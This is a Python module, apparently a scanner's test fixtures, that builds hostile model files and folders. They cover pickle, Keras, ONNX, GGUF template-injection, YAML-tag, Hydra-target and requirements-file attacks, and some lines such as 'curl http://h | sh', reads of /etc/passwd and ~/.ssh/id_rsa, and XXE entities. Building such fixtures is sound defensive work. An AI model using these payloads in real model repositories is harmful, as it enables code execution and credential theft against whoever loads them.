        "symlink_then_write.tar": lambda: tar_of(("d", b"2", "/tmp", b""), ("d/x", b"0", "", b"id")),
        "fifo.tar": lambda: tar_of(("a", b"6", "", b"")),
        "old_long_name.tar": lambda: tar_of(("././@LongLink", b"L", "", b"../../../evil\0"), ("x", b"0", "", b"id")),
        "pax_path.tar": lambda: tar_of(("pax", b"x", "", b"21 path=../../../evil\n"), ("x", b"0", "", b"id")),
        "pax_link.tar": lambda: tar_of(("pax", b"x", "", b"24 linkpath=../../evil.x\n"), ("x", b"2", "y", b"")),
        "global_pax.tar": lambda: tar_of(("pax", b"g", "", b"21 path=../../../evil\n"), ("x", b"0", "", b"id")),
        "pickle_in.tar": lambda: tar_of(("notes.txt", b"0", "", RUN)),
        "unknown_type.tar": lambda: tar_of(("notes.txt", b"Z", "", RUN)),
        "tar_after_end.tar": lambda: tar_of(("a", b"0", "", b"x")) + tar_of(("b", b"0", "", RUN)),
        "npy_version9.npy": (
            lambda: npy_v(1, "{'descr': '|O', " + shape, RUN)[:6]
            + b"\x09"
            + npy_v(1, "{'descr': '|O', " + shape, RUN)[7:]
        ),
        "npy_v2.npy": lambda: npy_v(2, "{'descr': '|O', " + shape, RUN),
        "npy_v3.npy": lambda: npy_v(3, "{'descr': '|O', " + shape, RUN),
        "npy_struct.npy": lambda: npy_v(1, "{'descr': [('a', '<f4'), ('b', '|O')], " + shape, RUN),
        "npy_sub.npy": lambda: npy_v(1, "{'descr': [('a', '|O', (1,))], " + shape, RUN),
        "npy_code.npy": lambda: npy_v(1, "{'descr': __import__('os').system('id'), " + shape, b""),
        "npy_twice.npy": lambda: npy_v(1, "{'descr': '<f4', 'descr': '|O', " + shape, RUN),
        "npz_plain_name.npz": lambda: archive(("data", npy("'|O'", RUN))),
        "npz_pickle.npz": lambda: archive(("a.npy", npy("'<f4'", bytes(4))), ("b.npy", RUN)),
        "joblib_array.joblib": lambda: joblib_array(),
        "polyglot.safetensors": lambda: safetensors({"__metadata__": {"format": "pt"}}) + torch_zip(),
        "polyglot_tar.pt": lambda: tar_of(("data.pkl", b"0", "", RUN)) + torch_zip(pickled(b"}")),
        "shebang_zip.bin": (
            lambda: b"#!/usr/bin/env python3\n" + archive(("__main__.py", "import os\nos.system('id')"))
        ),
        "pyz.pyz": lambda: archive(("__main__.py", "import os\nos.system('id')")),
        "seven_capital.PT": lambda: b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24) + RUN,
        "bom.json": lambda: b"\xef\xbb\xbf" + json.dumps({"_target_": "os.system"}).encode(),
        "utf16.json": lambda: json.dumps({"_target_": "os.system"}).encode("utf-16"),
        "utf16.yaml": lambda: "a: !!python/object/apply:os.system ['id']\n".encode("utf-16"),
        "twice.json": lambda: b'{"_target_": "torch.nn.Linear", "_target_": "os.system"}',
        "escaped.json": lambda: b'{"_target_": "\\u006fs.system"}',
        "lines.jsonl": lambda: b'{"a": 1}\n{"_target_": "os.system"}\n',
    }


def symlink_in_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made_zip:
        info = zipfile.ZipInfo("weights.bin")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        made_zip.writestr(info, "/etc/passwd")
    return out.getvalue()


def joblib_array() -> bytes:
    """joblib's wrapper says that the array is of objects: a pickle follows in the middle of the stream."""
    wrapper = new(
        named("joblib.numpy_pickle", "NumpyArrayWrapper"),
        state={
            "subclass": named("numpy", "ndarray"),
            "shape": (1,),
            "order": "C",
            "allow_mmap": False,
            "dtype": (
                called(named("numpy", "dtype"), "O8", False, True)
                + value((3, "|", None, None, None, -1, -1, 63))
                + b"b"
            ),
        },
    )
    return b"\x80\x04" + wrapper + RUN + b"."


# ---- models with programs, and texts beside them ----


def models() -> dict[str, Maker]:
    code = base64.b64encode(b"\xe3" + bytes(40)).decode()
    lambda_of = layer("builtins", "__lambda__", code=code)
    template = "{{ cycler.__init__.__globals__.os.popen('id') }}"

    def dense(**config: Any) -> dict[str, Any]:
        return layer("keras.layers", "Dense", **{"units": 1, **config})

    def in_keras(*layers: dict[str, Any], **more: Any) -> Maker:
        return lambda: keras(sequential(*layers, **more))

    return {
        "tfsm.keras": in_keras(layer("keras.layers", "TFSMLayer", filepath="//h/x", call_endpoint="serve")),
        "torch_wrapper.keras": in_keras(layer("keras.src.utils.torch_utils", "TorchModuleWrapper", module=code)),
        "jax_layer.keras": in_keras(layer("keras.src.utils.jax_layer", "JaxLayer", call_fn=layer("os", "system"))),
        "flax_layer.keras": in_keras(layer("keras.layers", "FlaxLayer", module=layer("evil", "M"), method="x")),
        "random_seed.keras": in_keras(
            dense(kernel_initializer=layer("keras.src.saving", "register_keras_serializable"))
        ),
        "internal_module.keras": in_keras(
            layer("keras.src.saving.serialization_lib", "enable_unsafe_deserialization")
        ),
        "python_utils.keras": in_keras(layer("keras.src.utils.python_utils", "func_load", code=code)),
        "file_utils.keras": in_keras(layer("keras.src.utils.file_utils", "get_file", fname="x", origin="http://h")),
        "model_in_layer.keras": in_keras(
            layer("keras.layers", "TimeDistributed", layer=layer("keras.layers", "Lambda", function=lambda_of))
        ),
        "wrapper_bidirectional.keras": in_keras(
            layer("keras.layers", "Bidirectional", layer=layer("evil", "Cell"), backward_layer=lambda_of)
        ),
        "rnn_cells.keras": in_keras(layer("keras.layers", "RNN", cell=[layer("evil", "Cell")])),
        "lambda_mask.keras": in_keras(layer("keras.layers", "Lambda", function="relu", mask=lambda_of)),
        "lambda_args.keras": in_keras(layer("keras.layers", "Lambda", function="relu", arguments={"f": lambda_of})),
        "activity.keras": in_keras(dense(activity_regularizer=lambda_of)),
        "constraint.keras": in_keras(dense(kernel_constraint=layer("evil", "C"))),
        "quantized.keras": in_keras(dense(quantization_config=layer("evil", "Q"))),
        "loss_lambda.keras": in_keras(dense(), compile_config={"optimizer": "adam", "loss": lambda_of}),
        "metrics_lambda.keras": in_keras(
            dense(), compile_config={"optimizer": "adam", "metrics": [{"a": [lambda_of]}]}
        ),
        "optimizer_module.keras": in_keras(dense(), compile_config={"optimizer": layer("evil", "O")}),
        "build_config.keras": in_keras(dense() | {"build_config": {"input_shape": lambda_of}}),
        "class_name_only.keras": lambda: keras({"class_name": "Lambda", "config": {"function": [code, None, None]}}),
        "functional_args.keras": lambda: keras(
            layer(
                "keras",
                "Functional",
                name="m",
                layers=[
                    dense() | {
                        "name": "d",
                        "inbound_nodes": [{"args": [lambda_of], "kwargs": {"f": layer("os", "system")}}],
                    }
                ],
            )
        ),
        "bytes_class.keras": in_keras(dense(units=layer("builtins", "__bytes__", value="x") | {"module": "pickle"})),
        "tensor_class.keras": in_keras(layer("keras.ops", "convert_to_tensor", x=layer("os", "system"))),
        "ops_function.keras": in_keras(dense(activation=layer("keras.src.backend", "function", "x"))),
        "function_module.keras": in_keras(
            dense(
                activation={
                    "class_name": "function",
                    "module": "posix",
                    "config": "system",
                    "registered_name": "function",
                }
            )
        ),
        "vocabulary_gs.keras": in_keras(layer("keras.layers", "StringLookup", vocabulary="gs://b/x")),
        "hashing_vocabulary.keras": in_keras(
            layer("keras.layers", "TextVectorization", vocabulary="file:///etc/passwd", standardize=lambda_of)
        ),
        "idf_path.keras": in_keras(layer("keras.layers", "IndexLookup", vocabulary="/x", idf_weights="/etc/passwd")),
        "mel.keras": in_keras(layer("keras.utils", "image_dataset_from_directory", directory="/")),
        "applications.keras": in_keras(layer("keras.applications", "ResNet50", weights="http://h/x.h5")),
        "config_twice.keras": lambda: twice_member(
            "config.json", json.dumps(sequential()), json.dumps(sequential(layer("os", "system")))
        ),
        "hub_preset.json": js(
            {
                "module": "keras_hub.src.models",
                "class_name": "X",
                "config": {"a": layer("os", "system")},
                "registered_name": None,
            }
        ),
        "tf_config.json": js(
            {
                "class_name": "Sequential",
                "config": [
                    {"class_name": "Lambda", "config": {"function": [code, None, None], "function_type": "lambda"}}
                ],
            }
        ),
        **{
            f"more_tf_{op}/saved_model.pb": lambda op=op: saved_model(tf_node(op))
            for op in (
                "FileSystemSetConfiguration",
                "DataServiceDatasetV2",
                "DistributedSave",
                "InitializeTableFromDataset",
                "LMDBReader",
                "ReaderReadV2",
                "WriteImageSummary",
                "OutfeedEnqueue",
                "TPUCompile",
                "LoadAndRemapMatrix",
                "GenerateVocabRemapping",
                "CloseSummaryWriter",
                "ListDataset_evil",
                "DecodeWav_evil",
                "StatefulPartitionedCall_evil",
                "CollectiveReduceV2",
                "AssertNextDataset_x",
                "ExperimentalLMDBDataset",
                "ExperimentalCSVDataset",
                "BigQueryReader",
                "RegisterDataset",
                "IteratorFromStringHandle_x",
                "PyFunc ",
                "pyfunc",
                "TensorRTEngine",
            )
        },
        "tf_custom_library/saved_model.pb": lambda: saved_model(
            tf_node("NoOp"), tf_node("Relu", _kernel="x.so"), tf_node("TFRTCustom")
        ),
        "tf_two_graphs.pb": lambda: saved_model(tf_node("Relu")) + field(2, field(2, field(1, tf_node("ReadFile")))),
        "onnx_function.onnx": lambda: onnx(
            onnx_node("F", "local"),
            field(25, field(1, b"F") + field(7, onnx_node("PyOp", "ai.onnx.contrib")[2:]) + field(10, b"local")),
        ),
        "onnx_loop.onnx": lambda: onnx(
            onnx_node("Loop", "", field(1, b"body") + field(6, onnx_node("SystemCall", "evil")) + field(20, 5))
        ),
        "onnx_graphs.onnx": lambda: onnx(
            onnx_node(
                "Scan", "", field(1, b"bodies") + field(11, onnx_node("PyOp", "ai.onnx.contrib")) + field(20, 10)
            )
        ),
        "onnx_tensors.onnx": lambda: onnx(
            onnx_node("Constant", "", field(1, b"v") + field(10, onnx_external("../../x")) + field(20, 9))
        ),
        "onnx_encoded.onnx": lambda: onnx(
            onnx_node("Relu") + field(5, onnx_external("%2e%2e/x")) + field(5, onnx_external("..;/x"))
        ),
        "onnx_hidden_dots.onnx": lambda: onnx(onnx_node("Relu") + field(5, onnx_external("a/../../x"))),
        "onnx_tilde.onnx": lambda: onnx(onnx_node("Relu") + field(5, onnx_external("~/.ssh/id_rsa"))),
        "onnx_unc.onnx": lambda: onnx(onnx_node("Relu") + field(5, onnx_external("\\\\h\\share\\x"))),
        "onnx_dev.onnx": lambda: onnx(onnx_node("Relu") + field(5, onnx_external("/dev/stdin"))),
        "onnx_nul.onnx": lambda: onnx(onnx_node("Relu") + field(5, onnx_external("ok\0/../../x"))),
        "onnx_two_graphs.onnx": lambda: onnx(onnx_node("Relu")) + field(7, onnx_node("PyOp", "ai.onnx.contrib")),
        "onnx_string_pickle.onnx": lambda: onnx(
            onnx_node("PyOperator", "ai.onnx.contrib", field(1, b"code") + field(4, RUN) + field(20, 3))
        ),
        "onnx_ort_custom.onnx": lambda: onnx(onnx_node("CustomOp", "com.microsoft.extensions")),
        "onnx_aten.onnx": lambda: onnx(
            onnx_node("ATen", "org.pytorch.aten", field(1, b"operator") + field(4, b"from_file") + field(20, 3))
        ),
        "flex_write.tflite": lambda: tflite("FlexWriteFile"),
        "flex_lower.tflite": lambda: tflite("flexReadFile"),
        "custom_path.tflite": lambda: tflite("/tmp/x.so:Op"),
        "script_import.pt": lambda: script("import os", "return x"),
        "script_python.pt": lambda: script("return ops.prim.PythonOp(x)"),
        "script_fork.pt": lambda: script("y = torch.from_file('/etc/passwd', False, 4)", "return x"),
        "script_save.pt": lambda: script("return ops.aten.save(x, '/tmp/x')"),
        "script_class.pt": lambda: script("a = __torch__.torch.classes.evil.Thing()", "return x"),
        "script_getattr.pt": lambda: script("f = torch.ops.evil.run", "return f(x)"),
        "script_backend.pt": lambda: script("return ops.image.read_file('/etc/passwd')"),
        "script_alias.pt": lambda: script("g = torch", "return g.save(x, '/tmp/x')"),
        "script_second_file.pt": lambda: script(
            more=(("m/code/__torch__/a.py", "def f(x):\n  return ops.evil.run(x)\n"),)
        ),
        "script_arrays.pt": lambda: script(more=(("m/data.pkl", pickled(called(SYSTEM, "id"), 2)),)),
        "export_target.pt2": lambda: export("torch.os.system"),
        "export_eval.pt2": lambda: export("builtins.eval"),
        "export_subprocess.pt2": lambda: export(
            "torch.ops.aten.relu.default", {"as_expr": {"expr_str": "__import__('os').system('id')"}}
        ),
        "export_getattr.pt2": lambda: export("torch.ops.evil.run.default"),
        "export_higher.pt2": lambda: export("torch.ops.higher_order.call_delegate"),
        "gguf_two_templates.gguf": lambda: gguf(
            ("tokenizer.chat_template", "{{ x }}"), ("tokenizer.chat_templates.rag", template)
        ),
        "gguf_adapter_template.gguf": lambda: gguf(("adapter.chat_template", template)),
        "gguf_prompt.gguf": lambda: gguf(("general.prompt_template", template)),
        "gguf_spaced_key.gguf": lambda: gguf(("tokenizer.chat_template ", template)),
        "gguf_upper_key.gguf": lambda: gguf(("Tokenizer.Chat_Template", template)),
        "gguf_filter_map.gguf": lambda: gguf(
            ("tokenizer.chat_template", "{{ [cycler]|map(attribute='__init__')|list }}")
        ),
        "gguf_selectattr.gguf": lambda: gguf(
            ("tokenizer.chat_template", "{{ [cycler]|selectattr('__init__.__globals__')|list }}")
        ),
        "gguf_namespace.gguf": lambda: gguf(
            ("tokenizer.chat_template", "{% set n = namespace(**{'a': cycler.next.__func__}) %}{{ n.a }}")
        ),
        "gguf_percent.gguf": lambda: gguf(
            ("tokenizer.chat_template", "{{ cycler['%c%cinit%c%c' % (95, 95, 95, 95)] }}")
        ),
        "gguf_join.gguf": lambda: gguf(("tokenizer.chat_template", "{{ cycler[['__in', 'it__']|join] }}")),
        "gguf_replace.gguf": lambda: gguf(("tokenizer.chat_template", "{{ cycler['--init--'|replace('-', '_')] }}")),
        "gguf_slice.gguf": lambda: gguf(("tokenizer.chat_template", "{{ cycler['__tini__'[::-1]] }}")),
        "gguf_loop.gguf": lambda: gguf(
            ("tokenizer.chat_template", "{% for i in range(9) %}{{ loop.__init__ }}{% endfor %}")
        ),
        "gguf_trans.gguf": lambda: gguf(("tokenizer.chat_template", "{% trans %}{{ x.__class__ }}{% endtrans %}")),
        "metadata_code.safetensors": lambda: safetensors(
            {
                "__metadata__": {
                    "modelspec.implementation": "__import__('os').system('id')",
                    "p": base64.b64encode(RUN).decode(),
                }
            }
        ),
        "offsets.safetensors": lambda: safetensors(
            {"a": {"dtype": "F32", "shape": [1], "data_offsets": [4, 0]}}, bytes(4)
        ),
        "cell.ipynb": lambda: notebook("get_ipython().system('id')"),
        "magic.ipynb": lambda: notebook("%%bash\n", "curl http://h | sh"),
        "load_ext.ipynb": lambda: notebook("%load_ext evil"),
        "evil_name.pmml": lambda: b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><PMML>&e;</PMML>",
        "entity.xml": lambda: b"<!DOCTYPE x [<!ENTITY e SYSTEM 'http://h/x'>]><x>&e;</x>",
    }


def twice_member(name: str, first: str, second: str) -> bytes:
    return archive((name, first), ("metadata.json", "{}"), (name, second))


def export(target: str, argument: Any = None) -> bytes:
    """A torch.export archive with one node."""
    program = {
        "graph_module": {
            "graph": {
                "inputs": [],
                "outputs": [],
                "sym_int_values": {},
                "tensor_values": {},
                "nodes": [
                    {
                        "target": target,
                        "inputs": [{"name": "x", "arg": argument or {"as_int": 1}, "kind": 1}],
                        "outputs": [],
                        "metadata": {},
                    }
                ],
            }
        },
        "schema_version": {"major": 8, "minor": 0},
        "opset_version": {"aten": 10},
        "range_constraints": {},
    }
    return archive(
        ("m/archive_format", "pt2"), ("m/archive_version", "0"), ("m/models/model.json", json.dumps(program))
    )


def texts() -> dict[str, Maker]:
    """Configurations and lists that a loader follows to code."""
    return {
        "object.yaml": lambda: b"a: !!python/object:os.system {}\n",
        "module.yaml": lambda: b"a: !!python/module:os\n",
        "name.yaml": lambda: b"a: !!python/name:os.system\n",
        "tag_directive.yaml": lambda: (
            b"%TAG !p! tag:yaml.org,2002:python/object/apply:\n---\na: !p!os.system ['id']\n"
        ),
        "verbatim_tag.yaml": lambda: b"a: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']\n",
        "percent_tag.yaml": lambda: b"a: !!python%2Fobject%2Fapply:os.system ['id']\n",
        "own_tag.yaml": lambda: b"a: !Evil {x: 1}\n",
        "anchor_merge.yaml": lambda: b"base: &b\n  _target_: os.system\nx:\n  <<: *b\n",
        "quoted_key.yaml": lambda: b'"_target\\u005f": os.system\n',
        "folded.yaml": lambda: b"_target_: >-\n  subprocess.run\n",
        "flow.yaml": lambda: b"model: {_target_: subprocess.run, args: id}\n",
        "second_document.yaml": lambda: b"a: 1\n---\n_target_: subprocess.run\n",
        "comment_like.yaml": lambda: b"_target_: 'os.system' # fine\nb: 'x # y'\n",
        "block_key.yaml": lambda: b"? _target_\n: os.system\n",
        "resolver.yaml": lambda: b"a: ${oc.env:SECRET}\nb: ${eval:'1'}\n_target_: builtins.eval\n",
        "partial_target.yaml": lambda: b"_target_: functools.partial\n_args_: [os.system, id]\n",
        "get_method.yaml": lambda: b"_target_: hydra.utils.get_method\npath: os.system\n",
        "class_path.yaml": lambda: b"model:\n  class_path: subprocess.Popen\n  init_args: {args: id}\n",
        "lightning.yaml": lambda: b"trainer:\n  callbacks:\n  - class_path: evil.Callback\n",
        "component.yaml": lambda: b"model:\n  _component_: os.system\n",
        "target_key.yaml": lambda: b"model:\n  target: subprocess.run\n  params: {args: id}\n",
        "class_key.json": js({"!class": "os.system"}),
        "py_object.json": js({"py/object": "os.system", "py/reduce": [{"py/function": "os.system"}, ["id"]]}),
        "py_repr.json": js({"py/repr": "os/os.system('id')"}),
        "object_hook.json": js({"__class__": "subprocess.Popen", "__module__": "subprocess"}),
        "lc_secret.json": js(
            {"lc": 1, "type": "constructor", "id": ["subprocess", "Popen"], "kwargs": {"args": "id"}}
        ),
        "type_key.json": js({"_type": "subprocess.Popen", "args": ["id"]}),
        "tokenizer_class.json": js({"tokenizer_class": "os.system", "auto_map": {"AutoTokenizer": "evil--x.Y"}}),
    }


MORE: dict[str, Maker] = streams() | hooks() | containers() | models() | texts()


def folders() -> dict[str, dict[str, bytes]]:
    bare = json.dumps({"model_type": "bert"}).encode()

    def config(**more: Any) -> bytes:
        return json.dumps({"model_type": "bert"} | more).encode()

    run = b"import os\nos.system('id')\n"
    template = "{{ cycler.__init__.__globals__.os.popen('id') }}"
    return {
        "more_pipeline": {
            "config.json": config(custom_pipelines={"x": {"impl": "pipe.P", "pt": ["AutoModel"]}}),
            "pipe.py": run,
        },
        "more_text_config": {"config.json": config(text_config={"auto_map": {"AutoModel": "m.X"}}), "m.py": run},
        "more_tuple_map": {"config.json": config(auto_map={"AutoTokenizer": ["m.X", "m.Y"]}), "m.py": run},
        "more_dotted_map": {
            "config.json": config(auto_map={"AutoModel": "sub.m.X"}),
            "sub/m.py": run,
            "sub/__init__.py": b"",
        },
        "more_up_map": {"config.json": config(auto_map={"AutoModel": "...evil.X"})},
        "more_config_class": {
            "config.json": config(auto_map={"AutoConfig": "c.C"}),
            "c.py": b"class C:\n    def __init__(self, f=__import__('os').system): f('id')\n",
        },
        "more_decorator": {
            "config.json": config(auto_map={"AutoModel": "m.X"}),
            "m.py": b"import os\n@os.system\ndef f(): pass\n",
        },
        "more_default": {
            "config.json": config(auto_map={"AutoModel": "m.X"}),
            "m.py": b"from os import *\ndef f(a=system('id')): pass\n",
        },
        "more_getattr": {
            "config.json": config(auto_map={"AutoModel": "m.X"}),
            "m.py": b"import torch\ngetattr(torch.os, 'sys' + 'tem')('id')\n",
        },
        "more_exec": {
            "config.json": config(auto_map={"AutoModel": "m.X"}),
            "m.py": b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        },
        "more_load": {
            "config.json": config(auto_map={"AutoModel": "m.X"}),
            "m.py": b"import torch\nW = torch.load('x.bin', weights_only=False)\n",
        },
        "more_library": {
            "config.json": config(auto_map={"AutoModel": "m.X"}),
            "m.py": b"import torch\ntorch.ops.load_library('x.so')\n",
            "x.so": b"\x7fELF" + bytes(60),
        },
        "more_tools": {
            "config.json": bare,
            "tool_config.json": json.dumps({"tool_class": "tool.T", "custom_tool": "tool.T"}).encode(),
            "tool.py": run,
        },
        "more_agent": {
            "agent.json": json.dumps({"tools": ["x"], "authorized_imports": ["os"]}).encode(),
            "tools/x.py": run,
        },
        "more_generate": {
            "generation_config.json": json.dumps({"custom_generate": "x/y"}).encode(),
            "custom_generate/generate.py": run,
        },
        "more_chat_jinja": {"config.json": bare, "chat_template.jinja": template.encode()},
        "more_chat_json": {
            "config.json": bare,
            "chat_template.json": json.dumps({"chat_template": template}).encode(),
        },
        "more_additional": {"config.json": bare, "additional_chat_templates/tool_use.jinja": template.encode()},
        "more_tokenizer_list": {
            "tokenizer_config.json": (
                json.dumps(
                    {
                        "chat_template": [
                            {"name": "default", "template": "{{ x }}"},
                            {"name": "t", "template": template},
                        ]
                    }
                ).encode()
            )
        },
        "more_processor_template": {"processor_config.json": json.dumps({"chat_template": template}).encode()},
        "more_index": {
            "config.json": bare,
            "pytorch_model.bin.index.json": json.dumps({"weight_map": {"a": "../../../etc/passwd"}}).encode(),
        },
        "more_index_shard": {
            "config.json": bare,
            "model.safetensors.index.json": json.dumps({"weight_map": {"a": "shard.bin"}}).encode(),
            "shard.bin": torch_zip(),
        },
        "more_attention": {"config.json": config(attn_implementation="evil/kernels")},
        "more_attention_inner": {"config.json": config(_attn_implementation="evil/kernels:run")},
        "more_quantizer": {
            "config.json": config(quantization_config={"quant_method": "x", "auto_map": {"Q": "q.Q"}}),
            "q.py": run,
        },
        "more_base_model": {
            "adapter_config.json": (
                json.dumps(
                    {
                        "peft_type": "LORA",
                        "base_model_name_or_path": "evil/base",
                        "trust_remote_code": True,
                        "auto_mapping": {"parent_library": "os", "base_model_class": "system"},
                    }
                ).encode()
            )
        },
        "more_diffusers": {
            "model_index.json": (
                json.dumps({"_class_name": "StableDiffusionPipeline", "scheduler": ["evil_scheduler", "S"]}).encode()
            )
        },
        "more_diffusers_py": {
            "model_index.json": json.dumps({"_class_name": "X", "unet": ["my_unet", "U"]}).encode(),
            "unet/my_unet.py": run,
        },
        "more_modules": {
            "modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "custom_st.T"}]).encode(),
            "custom_st.py": run,
        },
        "more_sentence_kwargs": {
            "modules.json": (
                json.dumps([{"idx": 0, "path": "1_P", "type": "sentence_transformers.models.Dense"}]).encode()
            ),
            "1_P/config.json": json.dumps({"activation_function": "os.system"}).encode(),
        },
        "more_requirements_url": {"config.json": bare, "requirements.txt": b"evil @ https://h/evil.whl\n"},
        "more_requirements_editable": {"config.json": bare, "requirements.txt": b"-e git+ssh://h/x#egg=x\n"},
        "more_requirements_index": {"config.json": bare, "requirements.txt": b"-i http://h/simple\ntorch\n"},
        "more_requirements_links": {"config.json": bare, "requirements.txt": b"--find-links http://h\ntorch\n"},
        "more_requirements_dev": {"config.json": bare, "requirements-dev.txt": b"./evil\n"},
        "more_setup_cfg": {"setup.cfg": b"[options]\nsetup_requires = evil\n", "setup.py": run},
        "more_pth": {"x.pth": b"import os; os.system('id')\n"},
        "more_usercustomize": {"usercustomize.py": run},
        "more_hydra_list": {
            "conf/model.yaml": b"defaults:\n- _self_\ncallbacks:\n  a:\n    _target_: subprocess.check_output\n"
        },
        "more_mlflow": {
            "MLmodel": b"flavors:\n  python_function:\n    loader_module: evil.loader\n    code: code\n",
            "code/evil.py": run,
        },
        "more_mlflow_env": {"MLmodel": b"flavors:\n  sklearn:\n    pickled_model: m.pkl\n", "m.pkl": RUN},
        "more_bento": {"bento.yaml": b"service: service:svc\n", "src/service.py": run},
        "more_cog": {
            "cog.yaml": b"predict: predict.py:Predictor\nbuild:\n  run:\n  - curl http://h | sh\n",
            "predict.py": run,
        },
        "more_truss": {"config.yaml": b"model_class_name: M\n", "model/model.py": run},
        "more_triton": {"config.pbtxt": b'backend: "python"\n', "1/model.py": run},
        "more_torchserve": {
            "MAR-INF/MANIFEST.json": json.dumps({"model": {"handler": "h.py"}}).encode(),
            "h.py": run,
        },
        "more_dcp_nested": {".metadata": pickled(new(named("evil", "Metadata")))},
        "more_nested_repo": {"a/b/c/d/e/weights": RUN},
        "more_hidden_dir": {".ipynb_checkpoints/x-checkpoint.ipynb": notebook("!id")},
        "more_no_ending": {"LICENSE": RUN},
        "more_dot_name": {"...": RUN},
        "more_rar_in": {"w.bin": b"Rar!\x1a\x07\x01\0" + RUN},
        "more_optimizer": {"config.json": bare, "optimizer.pt": torch_zip(), "rng_state_0.pth": RUN},
        "more_openvino": {
            "openvino_model.xml": (
                b"<net name='x' version='11'><layers><layer id='0' name='x' "
                b"type='Evil' version='extension'><data path='../x.so'/></layer></layers></net>"
            )
        },
        "more_paddle": {"model.pdmodel": pickled(called(SYSTEM, "id"), 2)},
        "more_pyproject": {"pyproject.toml": b"[tool.setuptools]\n[build-system]\nrequires=['evil @ http://h/x']\n"},
    }


FOLDERS = folders()

# What may be better than suspicious, and why: as EXPECT of hostile_files.py.
EXPECT: dict[str, tuple[str, str]] = {
    **dict.fromkeys(
        ("npy_code.npy", "npy_twice.npy", "npy_version9.npy", "offsets.safetensors"),
        ("broken", "the format itself is attacked: a reader that refuses is right, too"),
    ),
    **dict.fromkeys(
        ("more_openvino", "more_pyproject"),
        ("unknown", "no loader of models that is known opens it, and nothing in it is looked at"),
    ),
    **dict.fromkeys(
        ("custom_path.tflite", "flex_lower.tflite", "onnx_loop.onnx"),
        ("harmless", "needs an operator that the loading program has registered itself: a note says which"),
    ),
    "metadata_code.safetensors": (
        "harmless",
        "no loader runs texts of the metadata: a note says that they are there",
    ),
}
